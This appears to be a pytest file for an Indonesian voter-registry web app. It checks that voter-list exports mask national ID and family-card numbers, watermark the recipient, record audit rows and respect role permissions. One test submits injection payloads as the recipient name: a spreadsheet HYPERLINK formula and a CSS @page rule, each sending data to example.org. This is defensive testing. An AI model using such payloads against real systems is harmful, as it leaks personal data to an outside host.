"""Issue 22 item 6: Model A-Daftar Pemilih per TPS (PDF, XLSX) and the parties' soft copy per kab/kota
(XLSX, CSV) carry NIK and KK masked (127604********20), the recipient as a watermark on every PDF page
and in the XLSX header and properties, and each export has its audit row (who, what, recipient)."""

from __future__ import annotations

import csv
import hashlib
import io
import subprocess
import zipfile
from collections import Counter
from pathlib import Path

import openpyxl
import pytest
from django.test import Client

from pemilu.audit.models import AuditEvent
from pemilu.elections.models import Election
from pemilu.regions.models import Tps
from pemilu.testing.factories import PASSWORD, Cast
from pemilu.voters import crypto
from pemilu.voters.models import Voter, VoterListEntry
from pemilu.voters.tests.seed import listed_voters

RECIPIENT = "DPC Partai Contoh Kota Tebing Tinggi"


@pytest.fixture
def rows(cast: Cast, election: Election) -> list[dict[str, str]]:
    return listed_voters(cast, election, count=240, deceased=3)


def _client(username: str) -> Client:
    client = Client()
    assert client.login(username=username, password=PASSWORD)
    return client


def _busiest_tps() -> Tps:
    counts = Counter(VoterListEntry.objects.filter(voter_list__stage="dps").values_list("tps_id", flat=True))
    return Tps.objects.get(pk=counts.most_common(1)[0][0])


def _numbers(rows: list[dict[str, str]]) -> set[str]:
    return {r["nik"] for r in rows} | {r["no_kk"] for r in rows}


def _pdf_pages(content: bytes, tmp_path: Path) -> list[str]:
    pdf = tmp_path / "model-a.pdf"
    pdf.write_bytes(content)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, check=True).stdout.decode()
    return [page for page in text.split("\f") if page.strip()]


def test_model_a_pdf_is_masked_and_watermarked_on_every_page(cast: Cast, rows: list[dict[str, str]],
                                                             tmp_path: Path) -> None:
    tps = _busiest_tps()
    r = _client("pps_a1" if tps.village_id == "12.76.01.1006" else "kpu_staff_a").post(
        f"/pemilih/tps/{tps.code}/model-a/", {"organisation": RECIPIENT, "fmt": "pdf"})
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
    pages = _pdf_pages(r.content, tmp_path)
    assert len(pages) >= 2, "the TPS needs more than one page to show the mark on every page"
    event = AuditEvent.objects.get(event_type="voters.list_exported")
    code = event.after["code"]  # type: ignore[index]
    for page in pages:
        flat = " ".join(page.split())
        assert RECIPIENT in flat and f"kode salinan {code}" in flat
    text = "\n".join(pages)
    listed = list(VoterListEntry.objects.filter(tps=tps, voter_list__stage="dps").select_related("voter"))
    for entry in listed:
        nik = crypto.open_sealed(entry.voter.nik_sealed)
        assert crypto.mask(nik) in text and nik not in text
    assert not any(number in text for number in _numbers(rows))
    assert event.after["rows"] == len(listed) and event.after["kind"] == "model_a"  # type: ignore[index]
    assert event.after["recipient"] == RECIPIENT and event.after["format"] == "pdf"  # type: ignore[index]
    assert event.after["sha256"] == hashlib.sha256(r.content).hexdigest()  # type: ignore[index]
    assert event.target_id == str(tps.pk) and event.region_code == tps.village_id


def test_model_a_xlsx_carries_the_recipient_in_its_header_and_properties(cast: Cast, rows: list[dict[str, str]]
                                                                         ) -> None:
    tps = _busiest_tps()
    r = _client("kpu_staff_a").post(f"/pemilih/tps/{tps.code}/model-a/", {"organisation": RECIPIENT, "fmt": "xlsx"})
    assert r.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book.active
    code = AuditEvent.objects.get(event_type="voters.list_exported").after["code"]  # type: ignore[index]
    assert RECIPIENT in sheet.oddHeader.center.text and code in sheet.oddHeader.center.text
    assert RECIPIENT in (book.properties.description or "") and book.properties.keywords == code
    assert RECIPIENT in str(sheet.cell(3, 1).value)
    niks = [row[2] for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert niks and all(str(n)[6:14] == "********" for n in niks)
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        xml = b"".join(z.read(name) for name in z.namelist())
    assert not any(number.encode() in xml for number in _numbers(rows))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_party_copy_of_a_kab_kota(cast: Cast, rows: list[dict[str, str]], fmt: str) -> None:
    r = _client("kpu_admin_a").post("/pemilih/wilayah/12.76/salinan-partai/", {"organisation": RECIPIENT, "fmt": fmt})
    assert r.status_code == 200 and r["Content-Disposition"].endswith(f'salinan-pemilih-12.76.{fmt}"')
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(r.content.decode())))
    else:
        book = openpyxl.load_workbook(io.BytesIO(r.content))
        table = [[("" if v is None else str(v)) for v in row] for row in book.active.iter_rows(values_only=True)]
        assert RECIPIENT in book.active.oddHeader.center.text
    assert RECIPIENT in table[2][0]
    body = table[4:]
    on_lists = VoterListEntry.objects.filter(voter_list__stage="dps").count()
    assert len(body) == on_lists == Voter.objects.exclude(coklit="tms").count()
    assert {row[1][6:14] for row in body} == {"********"} and {row[2][6:14] for row in body} == {"********"}
    text = r.content if fmt == "csv" else b"".join(
        zipfile.ZipFile(io.BytesIO(r.content)).read(n) for n in zipfile.ZipFile(io.BytesIO(r.content)).namelist())
    assert not any(number.encode() in text for number in _numbers(rows))
    event = AuditEvent.objects.get(event_type="voters.list_exported")
    assert event.after["kind"] == "party_copy" and event.after["rows"] == on_lists  # type: ignore[index]
    assert event.actor_id == cast.kpu_admin_a.pk and event.region_code == "12.76"


def test_who_may_export(cast: Cast, rows: list[dict[str, str]]) -> None:
    tps = Tps.objects.get(code="12.76.01.1006.001")
    data = {"organisation": RECIPIENT, "fmt": "xlsx"}
    assert _client("pps_a1").post(f"/pemilih/tps/{tps.code}/model-a/", data).status_code == 200
    assert _client("pps_a2").post(f"/pemilih/tps/{tps.code}/model-a/", data).status_code == 404
    assert _client("kpu_admin_b").post(f"/pemilih/tps/{tps.code}/model-a/", data).status_code == 404
    assert _client("pemantau_a").post(f"/pemilih/tps/{tps.code}/model-a/", data).status_code == 403
    # The parties' copy is KPU Kab/Kota's: a PPS does not reach the kab/kota, Bawaslu may not hand it out.
    assert _client("pps_a1").post("/pemilih/wilayah/12.76/salinan-partai/", data).status_code == 404
    assert _client("bawaslu_a").post("/pemilih/wilayah/12.76/salinan-partai/", data).status_code == 403
    assert _client("kpu_admin_a").post("/pemilih/wilayah/12.76.01/salinan-partai/", data).status_code == 400
    assert _client("kpu_admin_a").post("/pemilih/wilayah/12.76/salinan-partai/",
                                       {"organisation": "", "fmt": "xlsx"}).status_code == 400
    assert AuditEvent.objects.filter(event_type="voters.list_exported").count() == 1


def test_a_typed_recipient_cannot_inject_a_formula_or_css(cast: Cast, rows: list[dict[str, str]],
                                                          tmp_path: Path) -> None:
    tps = _busiest_tps()
    client = _client("kpu_staff_a")
    formula = '=HYPERLINK("http://example.org/?"&A5,"klik")'
    r = client.post("/pemilih/wilayah/12.76/salinan-partai/", {"organisation": formula, "fmt": "csv"})
    assert r.status_code == 200
    first = list(csv.reader(io.StringIO(r.content.decode())))[2][0]
    assert not first.startswith("=")
    css = 'X"; } @page { @top-left { content: url(http://example.org/leak) } } .a { content: "'
    pdf = client.post(f"/pemilih/tps/{tps.code}/model-a/", {"organisation": css, "fmt": "pdf"})
    assert pdf.status_code == 200
    assert all("X\"; } @page" in " ".join(page.split()) for page in _pdf_pages(pdf.content, tmp_path))


def test_the_api_exports_like_the_pages(cast: Cast, rows: list[dict[str, str]]) -> None:
    tps = _busiest_tps()
    client = _client("kpu_staff_a")
    r = client.post(f"/api/v1/voters/tps/{tps.code}/model-a", {"recipient": RECIPIENT, "format": "xlsx"},
                    content_type="application/json")
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.openxmlformats")
    r = client.post("/api/v1/voters/regions/12.76/party-copy", {"recipient": RECIPIENT, "format": "csv"},
                    content_type="application/json")
    assert r.status_code == 200 and RECIPIENT in r.content.decode()
    assert AuditEvent.objects.filter(event_type="voters.list_exported").count() == 2
    assert _client("bawaslu_a").post("/api/v1/voters/regions/12.76/party-copy", {"recipient": RECIPIENT},
                                     content_type="application/json").status_code == 403
